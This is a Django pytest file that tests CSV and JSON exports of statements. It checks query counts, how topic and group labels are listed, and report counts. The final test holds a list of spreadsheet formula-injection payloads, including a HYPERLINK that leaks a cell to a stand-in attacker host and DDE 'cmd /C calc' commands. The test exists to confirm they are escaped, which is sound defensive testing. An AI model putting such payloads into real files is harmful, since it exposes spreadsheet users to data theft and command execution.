"""CSV and JSON exports: one query however many rows, labels and report counts right."""

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from statements.models import ArmedGroup
from tests.factories import (
    DocumentFactory,
    OutletFactory,
    SpeakerFactory,
    StatementFactory,
    TopicFactory,
)
from tests.statements import sample

pytestmark = pytest.mark.django_db


def _export(client, name, **params) -> tuple[bytes, int]:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(reverse(f"statements:{name}"), params)
        assert response.status_code == 200
        body = b"".join(response.streaming_content)
    return body, len(captured)


def _csv(body: bytes) -> dict[int, dict]:
    return {int(r["id"]): r for r in csv.DictReader(io.StringIO(body.decode("utf-8-sig")))}


def _json(body: bytes) -> dict[int, dict]:
    return {s["id"]: s for s in json.loads(body)["statements"]}


@pytest.mark.parametrize("name", ["export_csv", "export_json"])
def test_an_export_runs_the_same_queries_for_few_rows_and_many(client, monkeypatch, name):
    # Small chunks, so many rows span several fetches (the old export queried per chunk).
    monkeypatch.setattr("statements.views.exports.CHUNK", 5)
    built = sample.build(months=2, per_month=1)
    body, few = _export(client, name, side="us")
    for statement in built["statements"] * 20:
        copy = StatementFactory(speaker=statement.speaker, said_on=statement.said_on)
        copy.topics.set(statement.topics.all())
        copy.armed_groups.set(built["groups"])
        sample.add_report(copy)
    more, many = _export(client, name, side="us")
    assert len(more) > 10 * len(body)
    assert many == few


def test_exports_list_every_topic_group_and_outlet_of_a_remark(client):
    groups = [
        ArmedGroup.objects.create(short_name=name, slug=name.lower(), full_name=name)
        for name in ("TTP", "BLA")
    ]
    topics = [TopicFactory(name=name) for name in ("terror financing", "border security")]
    both = StatementFactory(text="Labelled invented remark")
    both.topics.set(topics)
    both.armed_groups.set(groups)
    sample.add_report(both)
    sample.add_report(both)
    rejected = sample.add_report(both)
    rejected.review_status = "rejected"
    rejected.save()
    bare = StatementFactory(text="Unlabelled invented remark")

    # Filtered by one topic, the statement still lists both, sorted by name.
    rows = _csv(_export(client, "export_csv", topic="terror-financing")[0])
    assert list(rows) == [both.pk]
    assert rows[both.pk]["topics"] == "border security; terror financing"
    assert rows[both.pk]["armed_groups"] == "BLA; TTP"
    assert rows[both.pk]["outlets_reporting"] == "3"  # the remark and two visible reports

    records = _json(_export(client, "export_json", group="ttp")[0])
    assert records[both.pk]["topics"] == ["border security", "terror financing"]
    assert records[both.pk]["armed_groups"] == ["BLA", "TTP"]
    assert records[both.pk]["outlets_reporting"] == 3

    records = _json(_export(client, "export_json")[0])
    assert set(records) == {both.pk, bare.pk}  # reports fold into their remark
    assert records[bare.pk]["topics"] == [] and records[bare.pk]["armed_groups"] == []
    assert records[bare.pk]["outlets_reporting"] == 1
    assert _csv(_export(client, "export_csv")[0])[bare.pk]["topics"] == ""


HOSTILE = [
    '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Read more")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("https://attacker.invalid")',
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_csv_cell_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote(client, hostile):
    # A title, outlet, speaker and quotation as a hostile page could supply them.
    document = DocumentFactory(title=hostile, outlet=OutletFactory(name=hostile))
    statement = StatementFactory(
        document=document, text=hostile, speaker=SpeakerFactory(name=hostile)
    )
    statement.topics.add(TopicFactory(name=hostile, slug="hostile"))
    plain = StatementFactory(text="An invented remark", said_on=statement.said_on)

    rows = _csv(_export(client, "export_csv")[0])
    row = rows[statement.pk]
    for column in ("document_title", "outlet", "text", "speaker", "topics"):
        assert row[column] == "'" + hostile, column
    assert rows[plain.pk]["text"] == "An invented remark"
    assert rows[plain.pk]["document_title"] == plain.document.title
    assert row["outlets_reporting"] == "1"  # numbers stay numbers
    # JSON is no spreadsheet format: the values stay as they were.
    assert _json(_export(client, "export_json")[0])[statement.pk]["text"] == hostile
